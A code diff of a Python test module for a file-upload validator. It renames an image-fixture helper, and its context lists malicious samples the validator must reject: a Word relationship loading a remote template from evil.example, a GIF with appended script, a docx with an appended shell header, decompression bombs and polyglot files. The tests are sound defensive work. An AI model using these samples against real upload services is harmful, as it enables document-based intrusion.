@@ -14,7 +14,7 @@ from tests import sample_files as files
 POLICY = UploadPolicy(DOCUMENTS, max_bytes=2 * MEGABYTE, max_unpacked=20 * MEGABYTE)
 DOCX = files.letter()
 XLSX = files.workbook(("姓名", "金额"))
-PNG, JPEG = files.picture(), files.picture("JPEG")
+PNG, JPEG = files.image(), files.image("JPEG")
 TEMPLATE = (
     b'<Relationships><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships'
     b'/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
@@ -26,9 +26,9 @@ TEMPLATE = (
     [
         ("照片.PNG", PNG, FileType.PNG),
         ("照片.jpeg", JPEG, FileType.JPEG),
-        ("照片.webp", files.picture("WEBP"), FileType.WEBP),
-        ("照片.gif", files.picture("GIF"), FileType.GIF),
-        ("照片.bmp", files.picture("BMP"), FileType.BMP),
+        ("照片.webp", files.image("WEBP"), FileType.WEBP),
+        ("照片.gif", files.image("GIF"), FileType.GIF),
+        ("照片.bmp", files.image("BMP"), FileType.BMP),
         ("合同.pdf", files.PDF, FileType.PDF),
         ("合同.docx", DOCX, FileType.DOCX),
         ("工资表.xlsx", XLSX, FileType.XLSX),
@@ -77,12 +77,12 @@ def test_pictures_documents_sound_and_text_are_accepted(name: str, content: byte
         ("合同.pdf", b"%PDF-1.7 /Names << /EmbeddedFiles 3 0 R >> %%EOF", "嵌入文件"),
         ("合同.pdf", b"%PDF-1.7 cut off", "不完整"),
         ("坏.png", PNG[:40], "无法打开"),
-        ("炸弹.png", files.huge_picture(), "图片过大"),
+        ("炸弹.png", files.huge_image(), "图片过大"),
         ("炸弹.docx", files.bomb(DOCX), "解压后过大"),
         ("炸弹.docx", files.lying_bomb(DOCX), "无法打开"),
         ("两用.jpg", JPEG + files.packed(run=b"x"), "隐藏内容"),
-        ("两用.png", files.picture(text="%PDF-1.7"), "隐藏内容"),
-        ("两用.gif", files.picture("GIF") + b"<script>alert(1)</script>", "网页或脚本"),
+        ("两用.png", files.image(text="%PDF-1.7"), "隐藏内容"),
+        ("两用.gif", files.image("GIF") + b"<script>alert(1)</script>", "网页或脚本"),
         ("两用.docx", DOCX + b"#!/bin/sh\n", "隐藏内容"),
         ("坏.docx", b"PK\x03\x04 broken", "不支持此类文件"),
     ],
